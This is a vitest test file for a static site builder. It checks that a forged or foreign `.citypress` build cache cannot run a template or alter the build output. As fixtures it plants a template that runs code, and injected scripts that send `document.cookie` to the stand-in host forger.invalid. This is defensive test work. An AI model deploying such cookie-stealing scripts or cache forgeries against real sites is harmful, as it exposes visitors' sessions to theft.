import { createHash, createHmac, randomBytes } from 'node:crypto'
import { existsSync } from 'node:fs'
import { cp, readdir, readFile, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { build } from '../../src/build/index.js'
import { siteFrom, snapshot, tempDir } from '../helpers/site.js'

// A `.citypress` folder copied from elsewhere (another machine's build, a contractor's
// repository) can neither run code nor put bytes into the output: the output equals a clean
// build's, whatever the folder holds and however it was sealed.

async function builtOutput(site: string): Promise<Record<string, string>> {
  const out = path.join(await tempDir(), 'dist')
  await build({ site, outDir: out })
  return snapshot(out)
}

/** A copy of `site` holding `cache` as its `.citypress`. */
async function copyWith(site: string, cache: string): Promise<string> {
  const copy = path.join(await tempDir(), 'site')
  await cp(site, copy, { recursive: true, filter: (src) => !src.includes(`${path.sep}.citypress`) })
  await cp(cache, path.join(copy, '.citypress'), { recursive: true })
  return copy
}

/** How a forger seals a file: with the public SHA-1 the cache once used, or an HMAC under a key of their own. */
type Seal = (bytes: Buffer) => Buffer
const trailer = (digest: Buffer, magic: string, length: number) => {
  const out = Buffer.alloc(28)
  digest.subarray(0, 20).copy(out, 0)
  out.writeUInt32LE(length, 20)
  out.write(magic, 24, 'latin1')
  return out
}
const seals: Record<string, (key: Buffer) => Seal> = {
  'the public SHA-1': () => (bytes) => Buffer.concat([bytes, trailer(createHash('sha1').update(bytes).digest(), 'CPH1', bytes.length)]),
  "an HMAC under the forger's own key": (key) => (bytes) =>
    Buffer.concat([bytes, trailer(createHmac('sha256', key).update(bytes).digest(), 'CPK1', bytes.length)]),
}
/** The data of a sealed JSON file written whole: its bytes without the 28-byte trailer. */
const unsealedJson = async (file: string) => JSON.parse((await readFile(file)).subarray(0, -28).toString('utf8')) as Record<string, unknown>

/**
 * Every sealed file under `dir` sealed again with `seal`, chunk by chunk (a file's trailers give
 * its chunks' lengths): the folder as another machine's build would have left it.
 */
async function resealAll(dir: string, seal: Seal): Promise<void> {
  for (const entry of await readdir(dir, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue
    const file = path.join(entry.parentPath, entry.name)
    const bytes = await readFile(file)
    const chunks: Buffer[] = []
    for (let end = bytes.length; end >= 28 && bytes.toString('latin1', end - 4, end) === 'CPK1'; ) {
      const start = end - 28 - bytes.readUInt32LE(end - 8)
      chunks.unshift(seal(bytes.subarray(start, end - 28)))
      end = start
    }
    if (chunks.length > 0) await writeFile(file, Buffer.concat(chunks))
  }
}

describe('a .citypress folder from elsewhere', () => {
  let site: string
  let clean: Record<string, string>
  /** A build's cache of the same site, which the forger starts from. */
  let built: string

  beforeAll(async () => {
    // The landing fixture: pages, a template and an asset bundle, and image variants (its icons and share images).
    site = await siteFrom('landing')
    const first = await copyWith(site, await tempDir())
    clean = await builtOutput(first)
    built = path.join(first, '.citypress')
  }, 120_000)

  for (const [how, sealOf] of Object.entries(seals)) {
    it(`runs no template, publishes no asset and serves no page or image it forged, sealed with ${how}`, async () => {
      const seal = sealOf(randomBytes(32))
      const forged = path.join(await tempDir(), '.citypress')
      await cp(built, forged, { recursive: true })
      await resealAll(forged, seal)
      const cache = path.join(forged, 'cache')
      const dir = await tempDir()
      const marker = path.join(dir, 'payload-ran')
      const payload = path.join(dir, 'payload.mjs')
      await writeFile(
        payload,
        `import { writeFileSync } from 'node:fs'\nwriteFileSync(${JSON.stringify(marker)}, 'ran')\n` +
          `export const renderRoute = () => '<!doctype html><p>forged template</p>'\nexport const collectPageFacts = () => ({})\nexport const findForms = () => []\n`,
      )
      // The template bundle: a file of the forger's choosing, with no inputs to check.
      const templates = await unsealedJson(path.join(cache, 'tool/templates.json'))
      await writeFile(
        path.join(cache, 'tool/templates.json'),
        seal(Buffer.from(JSON.stringify({ ...templates, inputs: {}, value: { file: payload, hash: 'forged' } }))),
      )
      // The asset bundle: a script of the forger's, published as the site's.
      const assets = await unsealedJson(path.join(cache, 'tool/assets.json'))
      const value = assets.value as { manifest: Record<string, unknown>; files: { path: string; base64: string }[] } | undefined
      const script = {
        path: 'assets/site-0000000000.js',
        base64: Buffer.from('fetch("https://forger.invalid/"+document.cookie)').toString('base64'),
      }
      await writeFile(
        path.join(cache, 'tool/assets.json'),
        seal(
          Buffer.from(
            JSON.stringify({
              ...assets,
              inputs: {},
              value: { manifest: { ...value?.manifest, js: `/${script.path}` }, files: [...(value?.files ?? []), script] },
            }),
          ),
        ),
      )
      // Every cached page and image variant replaced, their recorded hashes to match.
      const pages = path.join(cache, 'pages')
      const stamps = (await unsealedJson(path.join(pages, 'stamps.json'))) as Record<string, unknown[]>
      const page = Buffer.from('<!doctype html><script>fetch("https://forger.invalid/")</script>')
      for (const name of (await readdir(pages)).filter((n) => n.endsWith('.html'))) {
        await writeFile(path.join(pages, name), page)
        const stamp = stamps[name.slice(0, -5)]
        if (stamp) stamps[name.slice(0, -5)] = [page.length, ...stamp.slice(1, 4), createHash('sha1').update(page).digest('hex')]
      }
      await writeFile(path.join(pages, 'stamps.json'), seal(Buffer.from(JSON.stringify(stamps))))
      const images = path.join(cache, 'images')
      const variants = (await readdir(images)).filter((n) => !n.startsWith('.'))
      expect(variants.length).toBeGreaterThan(0)
      for (const name of variants) await writeFile(path.join(images, name), 'forged image bytes')

      const out = await builtOutput(await copyWith(site, forged))
      expect(existsSync(marker), 'the forged template ran').toBe(false)
      expect(out).toEqual(clean)
    })
  }

  it('gives the output of a clean build when it comes from a build of another site', async () => {
    const other = await siteFrom('minimal')
    await build({ site: other, outDir: path.join(await tempDir(), 'dist') })
    expect(await builtOutput(await copyWith(site, path.join(other, '.citypress')))).toEqual(clean)
  })
})
